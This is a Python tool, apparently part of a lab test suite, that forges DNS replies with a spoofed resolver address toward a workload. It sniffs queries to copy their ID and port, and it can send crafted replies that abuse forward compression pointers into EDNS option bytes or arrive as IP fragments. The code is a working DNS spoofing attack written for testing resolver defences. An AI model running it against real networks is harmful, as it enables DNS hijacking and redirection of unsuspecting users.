"""Send forged DNS replies from the attacker namespace with a spoofed source
(by default R1's address and port 53) toward the workload.

Either the test hands over the query's ID and port (--id, --dport), or
--sniff waits for the workload's query on the hub (the attacker's eth0 sees
every frame of the LAN) and copies its ID, port and question.

The spoofed source needs no raw IP: a socket with IP_TRANSPARENT may bind to
an address the namespace does not own, and the kernel fills in checksums.
"""

import argparse
import os
import select
import socket
import struct
import sys
import time

import dns.flags
import dns.message
import dns.name
import dns.rcode
import dns.rdata
import dns.rdataclass
import dns.rdatatype
import dns.rrset

EDNS_OPT_LOCAL = 65001  # an option code for local and experimental use (RFC 6891)
RDATA_NAME_TYPES = ("HTTPS", "SVCB", "NAPTR")
IP_TRANSPARENT = 19
IPV6_TRANSPARENT = 75
ETH_P_ALL = 0x0003
MAX_COUNT = 1000


def log(msg):
    print(msg, flush=True)


def parse_query_frame(frame):
    """(src ip, src port, dst ip, dns bytes) of a UDP/53 datagram in an
    Ethernet frame, or None. Every length is checked before use."""
    if len(frame) < 14:
        return None
    etype = struct.unpack("!H", frame[12:14])[0]
    p = frame[14:]
    if etype == 0x0800:
        if len(p) < 20 or p[0] >> 4 != 4:
            return None
        ihl = (p[0] & 0x0F) * 4
        if p[9] != 17 or ihl < 20 or len(p) < ihl + 8:
            return None
        if struct.unpack("!H", p[6:8])[0] & 0x3FFF:  # fragments: not ours
            return None
        src, dst, udp = socket.inet_ntop(socket.AF_INET, p[12:16]), socket.inet_ntop(socket.AF_INET, p[16:20]), p[ihl:]
    elif etype == 0x86DD:
        if len(p) < 48 or p[6] != 17:  # no extension headers in the lab
            return None
        src, dst, udp = socket.inet_ntop(socket.AF_INET6, p[8:24]), socket.inet_ntop(socket.AF_INET6, p[24:40]), p[40:]
    else:
        return None
    if len(udp) < 8:
        return None
    sport, dport, ulen = struct.unpack("!HHH", udp[:6])
    if dport != 53 or ulen < 8 or ulen > len(udp):
        return None
    return src, sport, dst, udp[8:ulen]


def sniff(args, qname, qtype, client, server):
    """Wait for the client's query for qname; returns (id, sport, query msg)."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((args.iface, 0))
    log("; listening on %s for %s %s from %s" % (args.iface, qname, dns.rdatatype.to_text(qtype), client))
    deadline = time.monotonic() + args.timeout
    for _ in range(100000):  # bounded frame count
        left = deadline - time.monotonic()
        if left <= 0 or not select.select([s], [], [], left)[0]:
            break
        got = parse_query_frame(s.recv(65535))
        if not got:
            continue
        src, sport, dst, wire = got
        if not same_ip(src, client) or not same_ip(dst, server):
            continue
        try:
            q = dns.message.from_wire(wire)
        except Exception:
            continue
        if q.flags & dns.flags.QR or len(q.question) != 1:
            continue
        if q.question[0].name != qname or q.question[0].rdtype != qtype:
            continue
        return q.id, sport, q
    return None


def same_ip(a, b):
    fa = socket.AF_INET6 if ":" in a else socket.AF_INET
    fb = socket.AF_INET6 if ":" in b else socket.AF_INET
    return fa == fb and socket.inet_pton(fa, a) == socket.inet_pton(fb, b)


def build_reply(args, qname, qtype, qid, query):
    if query is None:
        query = dns.message.make_query(qname, qtype)
        query.flags |= dns.flags.RD
    query.id = qid
    r = dns.message.make_response(query, recursion_available=True)
    if args.ad:
        r.flags |= dns.flags.AD
    if args.nxdomain:
        r.set_rcode(dns.rcode.NXDOMAIN)
    elif args.rcode:
        r.set_rcode(dns.rcode.from_text(args.rcode))
    for value in args.answer:
        rr = dns.rrset.from_text(qname, args.ttl, dns.rdataclass.IN, qtype, value)
        r.answer.append(rr)
    for text in args.additional:
        owner, ttl, rtype, rdata = text.split(None, 3)
        r.additional.append(dns.rrset.from_text(owner, int(ttl), dns.rdataclass.IN, rtype, rdata))
    return r.to_wire()


def build_target_in_opt(args, qname, qtype, qid):
    """Crafted bytes: the one --answer record (HTTPS, SVCB or NAPTR) with its
    TargetName or replacement as a compression pointer into an EDNS option
    that spells args.target_in_opt. The pointer goes forward, past the answer:
    glibc's dn_expand and ldns follow it, so a client reads that name."""
    rd = dns.rdata.from_text(dns.rdataclass.IN, qtype, args.answer[0])
    plain = (rd.replacement if qtype == dns.rdatatype.NAPTR else rd.target).to_wire()
    full = rd.to_wire()
    if qtype == dns.rdatatype.NAPTR:
        head, tail = full[:len(full) - len(plain)], b""  # the replacement comes last
    else:
        head, tail = full[:2], full[2 + len(plain):]  # priority, TargetName, SvcParams
    question = qname.to_wire() + struct.pack("!HH", qtype, dns.rdataclass.IN)
    rdlen = len(head) + 2 + len(tail)
    answer_fixed = struct.pack("!HHHIH", 0xC00C, qtype, dns.rdataclass.IN, args.ttl, rdlen)
    spelled = dns.name.from_text(args.target_in_opt).to_wire()
    option = struct.pack("!HH", EDNS_OPT_LOCAL, len(spelled)) + spelled
    opt = b"\x00" + struct.pack("!HHIH", dns.rdatatype.OPT, 1232, 0, len(option)) + option
    # The option's name: after the header, the question, the answer, the OPT's
    # fixed 11 bytes and the option's code and length.
    spelled_at = 12 + len(question) + len(answer_fixed) + rdlen + 11 + 4
    header = struct.pack("!HHHHHH", qid, 0x8180, 1, 1, 0, 1)
    return header + question + answer_fixed + head + struct.pack("!H", 0xC000 | spelled_at) + tail + opt


def send_fragments(args, src, dst, dport, wire):
    """The reply as IP fragments of args.fragment bytes of the UDP datagram each (the
    first one then holds the UDP header and at most a few DNS bytes). The UDP checksum
    covers the whole datagram, so the receiver accepts what it reassembles. scapy only
    cuts the fragments; a raw IPPROTO_RAW socket sends each with its IP header as given,
    and the kernel routes it and resolves the next hop in the attacker's namespace."""
    from scapy.all import IP, IPv6, IPv6ExtHdrFragment, UDP, Raw, fragment, fragment6
    if ":" in src:
        fam = socket.AF_INET6
        pkt = IPv6(src=src, dst=dst) / IPv6ExtHdrFragment(id=os.getpid()) / UDP(sport=args.sport, dport=dport) / Raw(wire)
        # fragment6 takes the size of each fragment packet: the fixed header, the
        # fragment header and the fragment's bytes.
        frags = fragment6(IPv6(bytes(pkt)), 40 + 8 + args.fragment)
    else:
        fam = socket.AF_INET
        pkt = IP(src=src, dst=dst, id=os.getpid() & 0xFFFF) / UDP(sport=args.sport, dport=dport) / Raw(wire)
        frags = fragment(IP(bytes(pkt)), fragsize=args.fragment)
    s = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for _ in range(args.count):
        for f in frags:
            s.sendto(bytes(f), (dst, 0))
    s.close()


def main():
    ap = argparse.ArgumentParser(prog="tests/lab/forge")
    ap.add_argument("--qname", required=True)
    ap.add_argument("--qtype", default="A")
    ap.add_argument("--id", type=int, help="the query's ID (or --sniff)")
    ap.add_argument("--dport", type=int, help="the workload's source port (or --sniff)")
    ap.add_argument("--answer", action="append", default=[], help="rdata in text, repeatable")
    ap.add_argument("--ttl", type=int, default=300)
    ap.add_argument("--additional", action="append", default=[], metavar="RR",
                    help='a record for the additional section, "OWNER TTL TYPE RDATA", repeatable')
    ap.add_argument("--nxdomain", action="store_true")
    ap.add_argument("--rcode", help="e.g. SERVFAIL, NOERROR (empty NODATA with no --answer)")
    ap.add_argument("--ad", action="store_true", help="claim AD")
    ap.add_argument("--ipv6", action="store_true")
    ap.add_argument("--src", help="spoofed source (default R1)")
    ap.add_argument("--dst", help="victim (default the workload)")
    ap.add_argument("--sport", type=int, default=53)
    ap.add_argument("--count", type=int, default=1)
    ap.add_argument("--sniff", action="store_true", help="wait for the query and copy its ID and port")
    ap.add_argument("--timeout", type=float, default=5.0, help="--sniff: give up after this many seconds")
    ap.add_argument("--iface", default="eth0")
    ap.add_argument("--fragment", type=int, default=0, metavar="BYTES",
                    help="send as IP fragments carrying BYTES (a multiple of 8) of the UDP datagram each")
    ap.add_argument("--target-in-opt", metavar="NAME",
                    help="crafted: the one --answer (HTTPS, SVCB, NAPTR) names NAME through a pointer into EDNS option bytes")
    args = ap.parse_args()
    if args.target_in_opt and (len(args.answer) != 1 or args.qtype.upper() not in RDATA_NAME_TYPES):
        print("forge: --target-in-opt takes one --answer of type %s" % ", ".join(RDATA_NAME_TYPES), file=sys.stderr)
        return 2
    if args.fragment and (args.fragment % 8 or not 8 <= args.fragment <= 1024):
        print("forge: --fragment must be a multiple of 8 in 8..1024", file=sys.stderr)
        return 2

    sfx = "IP6" if args.ipv6 else "IP4"
    src = args.src or os.environ.get("RESOLVER_" + sfx)
    dst = args.dst or os.environ.get("WORKLOAD_" + sfx)
    if not src or not dst:
        print("forge: no --src/--dst and no lab environment", file=sys.stderr)
        return 2
    if not 1 <= args.count <= MAX_COUNT:
        print("forge: --count must be 1..%d" % MAX_COUNT, file=sys.stderr)
        return 2
    qname = dns.name.from_text(args.qname)
    qtype = dns.rdatatype.from_text(args.qtype)

    query = None
    if args.sniff:
        got = sniff(args, qname, qtype, dst, src)
        if not got:
            log("; no query for %s seen within %.1f s" % (qname, args.timeout))
            return 1
        qid, dport, query = got
    else:
        if args.id is None or args.dport is None:
            print("forge: need --id and --dport, or --sniff", file=sys.stderr)
            return 2
        qid, dport = args.id, args.dport
    if args.target_in_opt:
        wire = build_target_in_opt(args, qname, qtype, qid)
    else:
        wire = build_reply(args, qname, qtype, qid, query)

    if args.fragment:
        send_fragments(args, src, dst, dport, wire)
        log("; forged %d reply(s) in %d-byte fragments %s:%d -> %s:%d id=%d %s %s" % (
            args.count, args.fragment, src, args.sport, dst, dport, qid, qname, dns.rdatatype.to_text(qtype)))
        return 0
    fam = socket.AF_INET6 if ":" in src else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    if fam == socket.AF_INET6:
        s.setsockopt(socket.IPPROTO_IPV6, IPV6_TRANSPARENT, 1)
    else:
        s.setsockopt(socket.IPPROTO_IP, IP_TRANSPARENT, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((src, args.sport))
    for _ in range(args.count):
        s.sendto(wire, (dst, dport))
    log("; forged %d reply(s) %s:%d -> %s:%d id=%d %s %s" % (args.count, src, args.sport, dst, dport, qid, qname,
                                                            dns.rdatatype.to_text(qtype)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
